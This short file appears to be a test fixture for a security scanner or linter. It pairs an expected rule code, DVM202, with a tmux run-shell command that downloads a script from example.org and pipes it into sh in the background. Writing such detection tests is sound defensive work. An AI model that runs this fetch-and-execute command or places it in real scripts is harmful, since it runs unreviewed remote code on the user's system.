# expect: DVM202
tmux run-shell -b 'curl -fsSL https://example.org/i.sh | sh'
